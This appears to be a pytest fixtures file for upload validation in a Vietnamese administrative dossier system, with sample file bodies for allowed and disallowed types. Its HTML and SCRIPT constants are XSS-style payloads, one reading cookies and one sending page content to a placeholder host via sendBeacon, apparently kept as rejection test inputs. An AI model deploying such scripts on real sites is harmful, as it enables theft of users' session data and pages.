"""The files tests use the small province of the dossier tests (one procedure received at the provincial centre and
handled by Sở Tư pháp, one officer per role) plus a digitisation officer at the centre, and a storage folder of
their own per test, so that "nothing was stored" is checked by listing it."""

import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from motcua.dossiers.models import StoredFile
from motcua.files.checks import DOCX, XLSX
from tests.dossiers.conftest import (  # noqa: F401  (fixtures shared with the dossier tests)
    make_procedure,
    officers,
    partner,
    procedure,
)
from tests.factories import assign

PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(64) + b"\xff\xd9"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00" + bytes(32)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"fetch('/mot-cua/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + bytes(64)
    + b"This program cannot be run in DOS mode"
)


def office(kind=DOCX, *, main_type=None, extra: dict | None = None) -> bytes:
    """A minimal DOCX or XLSX: [Content_Types].xml declaring its main part, and that part."""
    main_type = main_type or kind.main_type
    types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Override PartName="/{kind.main_part}" ContentType="{main_type}"/></Types>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr(kind.main_part, "<document>Tờ khai</document>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


DOCX_BYTES = office(DOCX)
XLSX_BYTES = office(XLSX)


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


@pytest.fixture(autouse=True)
def storage_root(settings, tmp_path) -> Path:
    """A storage folder of the test's own (Django's default storage, as configured without S3)."""
    root = tmp_path / "files"
    settings.MEDIA_ROOT = root
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage"},
    }
    return root


@pytest.fixture(autouse=True)
def _files_urls(settings):
    settings.ROOT_URLCONF = "tests.files.urls"


@pytest.fixture
def stored(storage_root):
    """``stored()`` → (number of StoredFile rows, files in the storage folder)."""

    def state():
        files = sorted(str(p.relative_to(storage_root)) for p in storage_root.rglob("*") if p.is_file())
        return StoredFile.objects.count(), files

    return state


@pytest.fixture
def digitiser(django_user_model, province):
    user = django_user_model.objects.create_user(
        "sohoa.cuc", password="x-long-password-1", first_name="Cúc", last_name="Lê Thị"
    )
    assign(user, "DIGITIZER", province["centre"], valid_from=dt.date(2024, 1, 1))
    return user


@pytest.fixture
def other_digitiser(django_user_model, province):
    """A digitisation officer of another unit (a commune)."""
    user = django_user_model.objects.create_user("sohoa.khac", password="x-long-password-1")
    assign(user, "DIGITIZER", province["commune_a"], valid_from=dt.date(2024, 1, 1))
    return user


@pytest.fixture
def signed_in(client):
    def sign_in(user):
        client.force_login(user)
        return client

    return sign_in
